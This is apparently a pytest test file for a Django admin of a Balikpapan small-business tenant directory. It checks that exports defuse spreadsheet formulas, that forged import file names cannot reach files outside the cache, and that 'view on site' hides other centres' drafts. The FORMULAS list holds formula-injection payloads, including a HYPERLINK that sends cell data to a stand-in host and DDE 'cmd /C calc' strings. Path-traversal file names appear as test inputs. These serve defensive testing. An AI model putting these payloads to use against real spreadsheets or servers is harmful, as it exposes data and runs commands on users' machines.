"""What the back office hands out or takes in cannot be turned against its users.

Spreadsheets exported for the office never run a formula; an import's waiting
file is found only in the cache, whatever the form names; "view on site" tells a
centre manager nothing about another centre's drafts.
"""

import csv
import io
import tempfile
from pathlib import Path

import openpyxl
import pytest
import tablib
from django.contrib.contenttypes.models import ContentType

from balikpapan_umkm import spreadsheets
from produk.curation import Curation
from produk.models import Tenant

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://penipu.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export(client, format_index):
    """The tenant list as the Kurator downloads it from the admin's export page."""
    form = client.get("/admin/produk/tenant/export/").context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.initial is True}
    return client.post(
        "/admin/produk/tenant/export/", {**data, "resource": "0", "format": str(format_index)}
    )


@pytest.fixture
def tenants_named_as_formulas(demo_data):
    tenants = list(Tenant.objects.order_by("pk")[: len(FORMULAS)])
    for tenant, formula in zip(tenants, FORMULAS, strict=True):
        Tenant.objects.filter(pk=tenant.pk).update(name=formula, description=formula)
    return tenants


def test_a_csv_export_never_starts_a_cell_with_a_formula(
    client, kurator, tenants_named_as_formulas
):
    client.force_login(kurator)
    response = export(client, 0)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row["name"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in names
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(spreadsheets.FORMULA_STARTS), cell


def test_an_excel_export_holds_text_where_a_name_looks_like_a_formula(
    client, kurator, tenants_named_as_formulas
):
    client.force_login(kurator)
    response = export(client, 1)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)  # no formula cell at all
    texts = {cell.value for cell in cells}
    for formula in FORMULAS:
        assert "'" + excel_text(formula) in texts


def excel_text(text):
    """Excel keeps line breaks as "\n" only."""
    return text.replace("\r", "\n")


@pytest.mark.parametrize("file_format", [spreadsheets.CSV, spreadsheets.XLSX])
def test_a_sheet_exported_and_imported_back_is_unchanged(file_format):
    original = tablib.Dataset(
        *[(formula, "+6281254000201", "Kue - manis") for formula in FORMULAS],
        headers=["name", "whatsapp", "description"],
    )
    fmt = file_format()
    exported = fmt.export_data(tablib.Dataset(*original, headers=original.headers))
    imported = fmt.create_dataset(exported)
    expected = [list(row) for row in original]
    if file_format is spreadsheets.XLSX:
        expected = [[excel_text(cell) for cell in row] for row in expected]
    assert [list(row) for row in imported] == expected


# --- Imports wait in the cache, and nothing else is reachable ---------------------


def confirm_import(client, import_file_name):
    return client.post(
        "/admin/produk/tenant/process_import/",
        {
            "import_file_name": import_file_name,
            "original_file_name": "data.csv",
            "format": "0",
            "resource": "0",
        },
    )


@pytest.mark.parametrize(
    "forged",
    ["{name}", "../../../../{folder}/{name}", "{folder}/{name}"],
    ids=["bare-name", "climbing", "absolute"],
)
def test_a_forged_import_file_name_touches_no_file(client, kurator, demo_data, forged):
    victim = Path(tempfile.gettempdir()) / "jangan-dihapus.csv"
    victim.write_text("name,sentra\nLapak Palsu,pujasera-contoh-klandasan\n")
    client.force_login(kurator)
    try:
        name = forged.format(folder=victim.parent.as_posix().strip("/"), name=victim.name)
        response = confirm_import(client, name)
        assert response.status_code == 400
        assert "Pilih berkasnya lagi" in response.content.decode()  # the admin speaks Indonesian
        assert victim.exists()
        assert not Tenant.objects.filter(name="Lapak Palsu").exists()
    finally:
        victim.unlink(missing_ok=True)


def test_an_import_confirmed_twice_is_done_once(client, kurator, demo_data):
    client.force_login(kurator)
    upload = io.BytesIO(
        b"name,sentra,stall_number,category,status\n"
        b"Soto Banjar Bu Imah,pujasera-contoh-klandasan,K-20,culinary,active\n"
    )
    upload.name = "data.csv"
    preview = client.post(
        "/admin/produk/tenant/import/", {"import_file": upload, "format": "0", "resource": "0"}
    )
    waiting = preview.context["confirm_form"].initial["import_file_name"]
    assert spreadsheets.ImportFileStorage.holds(waiting)
    assert not list(Path(tempfile.gettempdir()).glob(waiting + "*"))  # not on disk

    first = confirm_import(client, waiting)
    again = confirm_import(client, waiting)

    assert first.status_code == 302
    assert again.status_code == 400
    assert Tenant.objects.filter(name="Soto Banjar Bu Imah").count() == 1


# --- View on site ------------------------------------------------------------------


def view_on_site(client, obj):
    content_type = ContentType.objects.get_for_model(obj)
    return client.get(f"/admin/r/{content_type.pk}/{obj.pk}/")


def test_view_on_site_does_not_reveal_another_centres_draft(client, manager_of_pujasera):
    draft = Tenant.objects.get(slug="amplang-teritip-bahari")
    Tenant.objects.filter(pk=draft.pk).update(curation_status=Curation.DRAFT)
    client.force_login(manager_of_pujasera)
    response = view_on_site(client, draft)
    assert response.status_code == 404
    assert "amplang-teritip-bahari" not in response.content.decode()


def test_view_on_site_still_leads_to_a_managers_own_listing(client, manager_of_pujasera):
    own = Tenant.objects.get(slug="kepiting-saus-klandasan")
    client.force_login(manager_of_pujasera)
    response = view_on_site(client, own)
    assert response.status_code == 302
    assert response["Location"].endswith(own.get_absolute_url())


def test_view_on_site_answers_404_for_nonsense(client, kurator, demo_data):
    client.force_login(kurator)
    assert client.get("/admin/r/999999/1/").status_code == 404
    tenant_type = ContentType.objects.get_for_model(Tenant)
    assert client.get(f"/admin/r/{tenant_type.pk}/bukan-angka/").status_code == 404


def test_view_on_site_needs_a_login(client, demo_data):
    tenant = Tenant.objects.get(slug="kepiting-saus-klandasan")
    response = view_on_site(client, tenant)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


def test_the_spreadsheet_screens_speak_indonesian(client, kurator):
    """django-import-export has no Indonesian catalogue; ours carries its strings."""
    client.force_login(kurator)
    export = client.get("/admin/produk/tenant/export/").content.decode()
    assert "Ekspor ini memuat kolom berikut" in export
    assert "Pilih semua" in export
    importing = client.get("/admin/produk/tenant/import/").content.decode()
    assert "Impor ini membaca kolom berikut" in importing
    assert "Berkas yang diimpor" in importing
